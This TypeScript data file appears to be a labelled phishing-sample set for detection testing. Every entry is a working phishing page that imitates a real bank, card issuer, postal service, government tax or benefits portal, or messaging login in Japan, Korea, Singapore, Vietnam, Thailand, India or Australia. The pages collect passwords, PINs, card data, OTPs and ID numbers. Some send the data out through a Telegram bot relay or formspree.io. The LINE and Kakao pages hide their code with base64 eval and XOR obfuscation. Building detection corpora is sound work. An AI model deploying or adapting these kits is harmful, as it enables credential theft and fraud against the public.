import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, mark, stepKit, tgRelay, spinner, footer, b64, pctAll, xorB64 } from '../parts/zr-kit.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zr-jp-smbc-direct-otp-kit',
  label: 'phishing',
  kind: 'jp-bank-kit',
  url: 'https://smbc-direct.jp-kakunin.com/login/index.php',
  body: doc({
    lang: 'ja',
    title: '三井住友銀行 SMBCダイレクト ログイン',
    css: '.hd{background:#00522e;color:#fff;padding:14px 0}.box{max-width:460px;margin:36px auto}.g{background:#00522e;color:#fff;width:100%}.note{font-size:12px;color:#666;background:#f2f7f4;padding:10px;border-left:3px solid #00522e}',
    body: `<div class="hd"><div class="wrap" style="display:flex;gap:12px;align-items:center">${mark('SMBC', '#00522e')}<strong>三井住友銀行</strong> <span style="font-size:13px">SMBCダイレクト</span></div></div>
<div class="box card">
<p class="note">【重要】お客さまの口座で不正な取引の可能性が確認されたため、現在お取引を一時制限しております。本人確認を完了すると制限が解除されます。</p>
<form data-step="login" style="display:block">
<label>店番号</label><input type="text" name="branch" maxlength="3" inputmode="numeric">
<label>口座番号</label><input type="text" name="account" maxlength="7" inputmode="numeric">
<label>第一暗証（4桁）</label><input type="password" name="pin" maxlength="4">
<label>ログインパスワード</label><input type="password" name="pass">
<p><button class="btn g">ログイン</button></p>
</form>
<form data-step="otp" style="display:none">
<p>ご登録の携帯電話にSMSでワンタイムパスワードを送信しました。</p>
<label>ワンタイムパスワード（6桁）</label><input type="text" name="otp" maxlength="6" inputmode="numeric">
<p><button class="btn g">認証する</button></p>
</form>
<form data-step="card" style="display:none">
<p>本人確認のため、キャッシュカード情報をご入力ください。</p>
<label>キャッシュカード暗証番号</label><input type="password" name="atm" maxlength="4">
<label>生年月日</label><input type="text" name="dob" placeholder="19800101">
<p><button class="btn g">送信</button></p>
</form>
</div>
${spinner('確認中です。しばらくお待ちください…')}
${footer(['個人情報保護方針', 'サイトのご利用にあたって'], 'Copyright © Sumitomo Mitsui Banking Corporation. All Rights Reserved.')}
${stepKit('/login/next.php', 'https://www.smbc.co.jp/')}`,
  }),
},
{
  id: 'zr-jp-vpass-card-verify',
  label: 'phishing',
  kind: 'jp-card-kit',
  url: 'https://vpass-smcc.co-jp.top/vpass/member/',
  body: doc({
    lang: 'ja',
    title: 'Vpass ログイン | 三井住友カード',
    css: '.bar{background:#004098;height:56px}.main{max-width:520px;margin:30px auto}.b{background:#004098;color:#fff;width:100%}',
    body: `<div class="bar"></div>
<div class="main card">
<h2 style="color:#004098;margin-top:0">Vpass ログイン</h2>
<p style="font-size:13px">ご利用確認のお願い：第三者による不正利用の疑いがあるため、カードのご利用を一時的に停止しております。下記よりご本人様確認をお願いいたします。</p>
<form id="f1">
<label>Vpass ID</label><input type="text" name="vid" autocomplete="username">
<label>パスワード</label><input type="password" name="vpw">
<label>カード番号</label><input type="text" name="cc" maxlength="19" inputmode="numeric">
<div style="display:flex;gap:10px"><div style="flex:1"><label>有効期限（月/年）</label><input type="text" name="exp" placeholder="MM/YY"></div><div style="flex:1"><label>セキュリティコード</label><input type="password" name="cvv" maxlength="4"></div></div>
<label>カード暗証番号</label><input type="password" name="cpin" maxlength="4">
<p><button class="btn b">次へ</button></p>
</form>
</div>
${tgRelay('6839201744:AAGk2vR1xS0kqZp9wVnq3JdWw8hB1mQe7oQ', '-1002148830519', '#f1', 'https://www.smbc-card.com/mem/index.jsp')}`,
  }),
},
{
  id: 'zr-jp-japanpost-redelivery-fee',
  label: 'phishing',
  kind: 'jp-post-kit',
  url: 'https://japanpost.redelivery-jp.cc/jp/',
  body: doc({
    lang: 'ja',
    title: '日本郵便 再配達のお申し込み',
    css: '.h{border-bottom:4px solid #e60012;background:#fff}.m{max-width:600px;margin:20px auto}.r{background:#e60012;color:#fff;width:100%}table{width:100%;border-collapse:collapse;font-size:14px}td{border:1px solid #ddd;padding:8px}',
    body: `<div class="h"><div class="wrap" style="height:60px;display:flex;align-items:center;gap:10px">${mark('〒', '#e60012')}<b>日本郵便</b></div></div>
<div class="m card">
<h3>お荷物のお届けについて</h3>
<p>お客様宛にお荷物のお届けにあがりましたが、宛先住所に不備があるため持ち帰りました。再配達には住所確認と再配達手数料（<b>330円</b>）のお支払いが必要です。</p>
<table><tr><td>お問い合わせ番号</td><td>3386-2210-4571</td></tr><tr><td>保管期限</td><td id="lim"></td></tr></table>
<form data-step="addr" style="display:block">
<label>お名前</label><input type="text" name="name"><label>郵便番号</label><input type="text" name="zip"><label>ご住所</label><input type="text" name="addr"><label>電話番号</label><input type="tel" name="tel">
<p><button class="btn r">次へ進む</button></p></form>
<form data-step="pay" style="display:none">
<p>再配達手数料 330円 をクレジットカードでお支払いください。</p>
<label>カード番号</label><input type="text" name="card" inputmode="numeric"><label>有効期限</label><input type="text" name="exp" placeholder="MM/YY"><label>セキュリティコード</label><input type="password" name="cvc">
<p><button class="btn r">支払う</button></p></form>
<form data-step="3ds" style="display:none"><p>カード会社からSMSで届いた認証コードを入力してください。</p><label>認証コード</label><input type="text" name="sms"><p><button class="btn r">確認</button></p></form>
</div>
${spinner('処理中…')}
<script>var d=new Date();d.setDate(d.getDate()+2);document.getElementById('lim').textContent=d.toLocaleDateString('ja-JP');</script>
${stepKit('/jp/api/collect.php', 'https://www.post.japanpost.jp/')}`,
  }),
},
{
  id: 'zr-jp-etc-toll-unpaid',
  label: 'phishing',
  kind: 'jp-toll-kit',
  url: 'https://etc-meisai.jp-tolls.net/etc/',
  body: doc({
    lang: 'ja',
    title: 'ETC利用照会サービス',
    css: '.h{background:#1a5fb4;color:#fff;padding:16px 0}.m{max-width:520px;margin:30px auto}.warn{color:#c00;font-weight:bold}.b{background:#1a5fb4;color:#fff;width:100%}',
    body: `<div class="h"><div class="wrap"><b>ETC利用照会サービス</b></div></div>
<div class="m card">
<p class="warn">ETCサービスの無効化のお知らせ</p>
<p>ご登録のクレジットカードの有効期限切れ等により、ETCサービスの利用が停止されました。ご利用を継続される場合は、期限内に登録情報の更新をお願いします。</p>
<form id="etc">
<label>ログインID（メールアドレス）</label><input type="email" name="id">
<label>パスワード</label><input type="password" name="pw">
<label>カード番号</label><input type="text" name="cn"><label>有効期限</label><input type="text" name="ex"><label>セキュリティコード</label><input type="password" name="cv">
<p><button class="btn b">更新する</button></p></form></div>
<script>
document.getElementById('etc').onsubmit=function(e){e.preventDefault();var x=new XMLHttpRequest();x.open('POST','/etc/post.php');x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send(new URLSearchParams(new FormData(this)).toString());x.onloadend=function(){location.replace('https://www.etc-meisai.jp/')}};
</script>`,
  }),
},
{
  id: 'zr-jp-nta-etax-refund-sms',
  label: 'phishing',
  kind: 'gov-tax-refund-kit',
  url: 'https://nta-go-jp.kanpu-tetsuzuki.com/',
  body: doc({
    lang: 'ja',
    title: '国税庁 還付金のお知らせ',
    css: '.h{background:#fff;border-bottom:3px solid #0d3c8a}.m{max-width:640px;margin:24px auto}.b{background:#0d3c8a;color:#fff}',
    body: `<div class="h"><div class="wrap" style="height:64px;display:flex;align-items:center;gap:10px">${mark('国', '#0d3c8a')}<b>国税庁 National Tax Agency</b></div></div>
<div class="m card">
<h2>所得税還付金の受取手続き</h2>
<p>令和7年分の所得税について、還付金 <b>¥38,620</b> の受取手続きが完了していません。受取期限を過ぎると還付金は失効します。以下の手続きに進んでください。</p>
<form data-step="id" style="display:block"><label>氏名</label><input type="text" name="name"><label>マイナンバー（12桁）</label><input type="text" name="mynum" maxlength="12"><label>生年月日</label><input type="text" name="dob"><label>携帯電話番号</label><input type="tel" name="tel"><p><button class="btn b">次へ</button></p></form>
<form data-step="bank" style="display:none"><p>還付金の受取方法としてクレジットカードを登録してください。</p><label>カード番号</label><input type="text" name="cc"><label>有効期限</label><input type="text" name="exp"><label>セキュリティコード</label><input type="password" name="cvv"><p><button class="btn b">登録</button></p></form>
</div>${spinner('送信中')}
${stepKit('https://nta-go-jp.kanpu-tetsuzuki.com/api/s.php', 'https://www.nta.go.jp/')}`,
  }),
},
{
  id: 'zr-kr-nhis-refund-sms',
  label: 'phishing',
  kind: 'gov-health-refund-kit',
  url: 'https://nhis-refund.or-kr.vip/',
  body: doc({
    lang: 'ko',
    title: '국민건강보험공단 - 환급금 조회',
    css: '.h{background:#0072bc;color:#fff;padding:14px 0}.m{max-width:520px;margin:26px auto}.b{background:#0072bc;color:#fff;width:100%}.amt{font-size:28px;color:#0072bc;font-weight:bold}',
    body: `<div class="h"><div class="wrap"><b>국민건강보험공단</b> 환급금 조회 서비스</div></div>
<div class="m card">
<p>고객님께 미지급된 <b>건강보험료 과오납 환급금</b>이 있습니다.</p><p class="amt">₩ 264,300</p>
<p>본인 확인 후 환급금을 신청하세요. 신청 기한: 이번 달 말일</p>
<form id="nh"><label>성명</label><input type="text" name="n"><label>휴대폰 번호</label><input type="tel" name="p"><label>통신사</label><select name="tel"><option>SKT</option><option>KT</option><option>LG U+</option><option>알뜰폰</option></select>
<label>환급 받을 카드번호</label><input type="text" name="card"><label>카드 비밀번호 앞 2자리</label><input type="password" name="cpw" maxlength="2">
<p><button class="btn b">환급 신청</button></p></form></div>
<script>document.getElementById('nh').onsubmit=function(e){e.preventDefault();fetch('/api/v1/refund',{method:'POST',body:new FormData(this)}).finally(function(){document.body.innerHTML='<div style="padding:40px;text-align:center"><h3>인증번호를 입력해주세요</h3><input id=sms style="padding:10px"><p><button onclick="fetch(\\'/api/v1/sms\\',{method:\\'POST\\',body:document.getElementById(\\'sms\\').value}).then(function(){location.href=\\'https://www.nhis.or.kr\\'})">확인</button></p></div>'})};</script>`,
  }),
},
{
  id: 'zr-kr-naver-login-clone',
  label: 'phishing',
  kind: 'kr-portal-kit',
  url: 'https://nid-naver.login-keep.com/nidlogin.login',
  body: doc({
    lang: 'ko',
    title: 'NAVER',
    css: 'body{background:#fff}.m{max-width:460px;margin:70px auto;text-align:center}.logo{color:#03c75a;font-size:40px;font-weight:900}.g{background:#03c75a;color:#fff;width:100%;font-size:17px}input{margin-bottom:6px}',
    body: `<div class="m"><div class="logo">NAVER</div>
<div class="card" style="text-align:left;margin-top:20px">
<p style="font-size:13px;color:#d33">해외 IP에서 로그인 시도가 감지되어 보호조치 되었습니다. 본인 확인을 위해 다시 로그인해 주세요.</p>
<form id="nl" action="/nidlogin.php" method="post"><input type="text" name="id" placeholder="아이디"><input type="password" name="pw" placeholder="비밀번호"><p><button class="btn g">로그인</button></p></form></div>
<p style="font-size:12px;color:#888">비밀번호 찾기 | 아이디 찾기 | 회원가입</p></div>`,
  }),
  routes: {
    'nid-naver.login-keep.com/nidlogin.php': redirectRoute(302, 'https://nid.naver.com/nidlogin.login'),
  },
},
{
  id: 'zr-sg-singpass-cpf-grant',
  label: 'phishing',
  kind: 'gov-identity-kit',
  url: 'https://singpass-gov.cpf-payout.info/login',
  body: doc({
    lang: 'en',
    title: 'Singpass Login',
    css: '.m{max-width:420px;margin:50px auto}.r{background:#f4333d;color:#fff;width:100%}.banner{font-size:12px;background:#f0f0f0;padding:6px 20px}',
    body: `<div class="banner">A Singapore Government Agency Website</div>
<div class="m card"><div style="font-size:26px;font-weight:800;color:#f4333d">singpass</div>
<p>Log in to claim your <b>CDC Voucher / CPF Special Payout (S$600)</b>. Claims close in 24 hours.</p>
<form id="sp"><label>Singpass ID</label><input type="text" name="nric" placeholder="S1234567A"><label>Password</label><input type="password" name="pwd"><p><button class="btn r">Log in</button></p></form>
<p style="font-size:12px"><a href="#">Forgot Singpass ID</a> · <a href="#">Reset password</a></p></div>
<script>
document.getElementById('sp').onsubmit=function(e){e.preventDefault();var f=this;
fetch('https://formspree.io/f/xqazbmlw',{method:'POST',headers:{Accept:'application/json'},body:new FormData(f)}).finally(function(){
document.querySelector('.m').innerHTML='<h3>2FA verification</h3><p>Enter the 6-digit code sent to your mobile.</p><form id=o><input type=text name=otp><p><button class="btn r">Verify</button></p></form>';
document.getElementById('o').onsubmit=function(ev){ev.preventDefault();fetch('https://formspree.io/f/xqazbmlw',{method:'POST',headers:{Accept:'application/json'},body:new FormData(this)}).finally(function(){location.href='https://www.singpass.gov.sg/'})};});};
</script>`,
  }),
},
{
  id: 'zr-vn-vietcombank-smart-otp',
  label: 'phishing',
  kind: 'vn-bank-kit',
  url: 'https://vietcombank-vn.xac-thuc.online/dang-nhap',
  body: doc({
    lang: 'vi',
    title: 'VCB Digibank - Đăng nhập',
    css: '.h{background:#006b3f;color:#fff;padding:14px 0}.m{max-width:460px;margin:30px auto}.b{background:#006b3f;color:#fff;width:100%}',
    body: `<div class="h"><div class="wrap"><b>Vietcombank</b> · VCB Digibank</div></div>
<div class="m card"><h3>Cập nhật sinh trắc học theo Quyết định 2345/QĐ-NHNN</h3>
<p>Tài khoản của Quý khách sẽ bị tạm khóa giao dịch trực tuyến nếu không hoàn tất xác thực trước 23:59 hôm nay.</p>
<form data-step="1" style="display:block"><label>Tên đăng nhập</label><input type="text" name="user"><label>Mật khẩu</label><input type="password" name="pass"><p><button class="btn b">Đăng nhập</button></p></form>
<form data-step="2" style="display:none"><label>Số CCCD</label><input type="text" name="cccd"><label>Số điện thoại</label><input type="tel" name="sdt"><p><button class="btn b">Tiếp tục</button></p></form>
<form data-step="3" style="display:none"><p>Nhập mã OTP được gửi về điện thoại của Quý khách</p><input type="text" name="otp"><p><button class="btn b">Xác nhận</button></p></form>
</div>${spinner('Đang xử lý…')}${stepKit('/api/luu.php', 'https://www.vietcombank.com.vn/')}`,
  }),
},
{
  id: 'zr-th-kbank-kplus-verify',
  label: 'phishing',
  kind: 'th-bank-kit',
  url: 'https://kasikorn-th.kplus-verify.com/',
  body: doc({
    lang: 'th',
    title: 'K PLUS - ยืนยันตัวตน',
    css: '.h{background:#00a950;color:#fff;padding:14px 0}.m{max-width:460px;margin:30px auto}.b{background:#00a950;color:#fff;width:100%}',
    body: `<div class="h"><div class="wrap"><b>KASIKORNBANK</b> ธนาคารกสิกรไทย</div></div>
<div class="m card"><h3>ยืนยันตัวตนเพื่อปลดล็อกบัญชี</h3>
<p>ระบบตรวจพบการทำรายการผิดปกติ บัญชีของท่านถูกระงับชั่วคราว กรุณายืนยันตัวตนภายใน 24 ชั่วโมง</p>
<form data-step="a" style="display:block"><label>เลขบัตรประชาชน</label><input type="text" name="idc" maxlength="13"><label>เบอร์โทรศัพท์</label><input type="tel" name="tel"><label>รหัส K PLUS (6 หลัก)</label><input type="password" name="pin" maxlength="6"><p><button class="btn b">ถัดไป</button></p></form>
<form data-step="b" style="display:none"><label>รหัส OTP</label><input type="text" name="otp"><p><button class="btn b">ยืนยัน</button></p></form>
</div>${spinner('กรุณารอสักครู่…')}${stepKit('/th/receive.php', 'https://www.kasikornbank.com/')}`,
  }),
},
{
  id: 'zr-in-sbi-yono-kyc-update',
  label: 'phishing',
  kind: 'in-bank-kit',
  url: 'https://sbi-yono-kyc.in-update.xyz/',
  body: doc({
    lang: 'en',
    title: 'SBI YONO | KYC Update',
    css: '.h{background:#280071;color:#fff;padding:14px 0}.m{max-width:460px;margin:24px auto}.b{background:#00b5ef;color:#fff;width:100%}',
    body: `<div class="h"><div class="wrap" style="display:flex;gap:10px;align-items:center">${mark('SBI', '#00b5ef')}<b>YONO SBI</b></div></div>
<div class="m card"><p style="color:#c00"><b>Dear Customer, your YONO account will be blocked today. Please update your PAN card / KYC immediately.</b></p>
<p>प्रिय ग्राहक, आपका खाता आज ब्लॉक हो जाएगा। कृपया अपना पैन कार्ड अपडेट करें।</p>
<form data-step="1" style="display:block"><label>Username</label><input type="text" name="u"><label>Password</label><input type="password" name="p"><label>Registered Mobile Number</label><input type="tel" name="m"><p><button class="btn b">Login</button></p></form>
<form data-step="2" style="display:none"><label>PAN Number</label><input type="text" name="pan"><label>Aadhaar Number</label><input type="text" name="aadhaar"><label>Date of Birth</label><input type="text" name="dob"><p><button class="btn b">Submit</button></p></form>
<form data-step="3" style="display:none"><label>Enter OTP</label><input type="text" name="otp"><p><button class="btn b">Verify</button></p></form>
</div>${spinner('Processing…')}${stepKit('/action.php', 'https://www.onlinesbi.sbi/')}`,
  }),
},
{
  id: 'zr-in-incometax-refund-hindi',
  label: 'phishing',
  kind: 'gov-tax-refund-kit',
  url: 'https://incometax-gov.refund-status.in.net/',
  body: doc({
    lang: 'hi',
    title: 'आयकर विभाग - रिफंड स्वीकृत',
    css: '.h{background:#1d3f72;color:#fff;padding:14px 0}.m{max-width:540px;margin:24px auto}.b{background:#f5821f;color:#fff;width:100%}',
    body: `<div class="h"><div class="wrap"><b>आयकर विभाग, भारत सरकार</b> | Income Tax Department</div></div>
<div class="m card"><h3>आपका आयकर रिफंड ₹15,490 स्वीकृत हो गया है</h3>
<p>कृपया नीचे अपना बैंक विवरण सत्यापित करें ताकि राशि आपके खाते में जमा की जा सके।</p>
<form id="it"><label>PAN</label><input type="text" name="pan"><label>पूरा नाम</label><input type="text" name="name"><label>बैंक</label><select name="bank"><option>SBI</option><option>HDFC Bank</option><option>ICICI Bank</option><option>Axis Bank</option><option>PNB</option></select>
<label>नेट बैंकिंग यूज़र आईडी</label><input type="text" name="nbid"><label>पासवर्ड</label><input type="password" name="nbpw"><label>डेबिट कार्ड नंबर</label><input type="text" name="dc"><label>ATM पिन</label><input type="password" name="atm" maxlength="4">
<p><button class="btn b">सत्यापित करें</button></p></form></div>
<script>document.getElementById('it').onsubmit=function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));fetch('/gate/submit',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(d)}).then(function(){location='https://www.incometax.gov.in/iec/foportal/'})};</script>`,
  }),
},
{
  id: 'zr-au-mygov-ato-refund',
  label: 'phishing',
  kind: 'gov-identity-kit',
  url: 'https://my-gov-au.ato-refund.help/LoginServices/',
  body: doc({
    lang: 'en',
    title: 'Sign in with myGov',
    css: '.h{background:#1a1a1a;color:#fff;padding:16px 0}.m{max-width:460px;margin:36px auto}.b{background:#00698f;color:#fff}',
    body: `<div class="h"><div class="wrap"><b>myGov</b></div></div>
<div class="m card"><h1 style="font-size:26px;margin-top:0">Sign in with myGov</h1>
<p>You have a pending tax refund of <b>$782.40</b> from the Australian Taxation Office. Sign in to confirm your payment details.</p>
<form data-step="s" style="display:block"><label>Username or email</label><input type="text" name="u"><label>Password</label><input type="password" name="p"><p><button class="btn b">Sign in</button></p></form>
<form data-step="c" style="display:none"><label>Enter code sent to your mobile</label><input type="text" name="code"><p><button class="btn b">Next</button></p></form>
<form data-step="b" style="display:none"><label>Card number</label><input type="text" name="cc"><label>Expiry</label><input type="text" name="ex"><label>CVC</label><input type="password" name="cv"><label>Date of birth</label><input type="text" name="dob"><p><button class="btn b">Receive refund</button></p></form>
</div>${spinner('Loading')}${stepKit('/LoginServices/process.php', 'https://my.gov.au/')}`,
  }),
},
{
  id: 'zr-jp-line-account-docwrite',
  label: 'phishing',
  kind: 'messaging-kit',
  url: 'https://line-me.account-safety.net/auth',
  body: `<!DOCTYPE html><html lang="ja"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>LINE</title></head><body>
<script>document.write(decodeURIComponent(escape(atob('${b64(`<style>body{margin:0;font-family:sans-serif;background:#fff}.m{max-width:380px;margin:40px auto;padding:20px}.lg{color:#06c755;font-size:34px;font-weight:900;text-align:center}.g{background:#06c755;color:#fff;border:0;border-radius:6px;width:100%;padding:13px;font-size:16px}input{width:100%;padding:12px;margin:6px 0;border:1px solid #ccc;border-radius:6px;box-sizing:border-box}</style><div class="m"><div class="lg">LINE</div><p style="font-size:13px">お客様のLINEアカウントで異常なログインが検出されました。アカウント保護のため、本人確認を行ってください。</p><form id="lf"><input name="email" type="email" placeholder="メールアドレス"><input name="pass" type="password" placeholder="パスワード"><input name="tel" type="tel" placeholder="電話番号"><button class="g">ログイン</button></form><div id="pc" style="display:none"><p>SMSで届いた4桁の認証番号を入力してください。</p><input id="code" maxlength="4"><button class="g" id="cb">認証</button></div></div>`)}'))));</script>
<script>eval(atob('${b64(`document.getElementById('lf').onsubmit=function(e){e.preventDefault();fetch('/auth/api.php',{method:'POST',body:new FormData(this)});this.style.display='none';document.getElementById('pc').style.display='block'};document.getElementById('cb').onclick=function(){fetch('/auth/api.php?c=1',{method:'POST',body:document.getElementById('code').value}).then(function(){location.href='https://line.me/ja/'})};`)}'));</script>
</body></html>`,
},
{
  id: 'zr-kr-kakao-login-xor',
  label: 'phishing',
  kind: 'messaging-kit',
  url: 'https://accounts-kakao.secure-login.kr.com/login',
  body: `<!DOCTYPE html><html lang="ko"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>카카오계정</title></head><body>
<div id="app"></div>
<script>
(function(k,s){var b=atob(s),o='';for(var i=0;i<b.length;i++){o+=String.fromCharCode(b.charCodeAt(i)^k.charCodeAt(i%k.length))}document.getElementById('app').innerHTML=decodeURIComponent(escape(o));
var f=document.getElementById('kf');f.addEventListener('submit',function(e){e.preventDefault();fetch('/login/proc',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:new URLSearchParams(new FormData(f))}).then(function(){location.href='https://accounts.kakao.com/login'})})})('k4k40', '${xorB64(`<style>body{margin:0;background:#fff;font-family:sans-serif}.m{max-width:400px;margin:60px auto;padding:0 20px}.y{background:#fee500;color:#191919;border:0;border-radius:6px;width:100%;padding:14px;font-size:16px}input{width:100%;border:0;border-bottom:2px solid #ddd;padding:12px 0;margin:8px 0;font-size:15px}</style><div class="m"><h1 style="font-size:26px">kakao</h1><p style="font-size:13px;color:#666">다른 기기에서 로그인이 감지되어 카카오톡 이용이 일시 중지되었습니다. 본인 확인 후 이용하실 수 있습니다.</p><form id="kf"><input name="email" placeholder="카카오메일 아이디, 이메일, 전화번호"><input name="password" type="password" placeholder="비밀번호"><button class="y">로그인</button></form></div>`, 'k4k40')}');
</script></body></html>`,
},
];
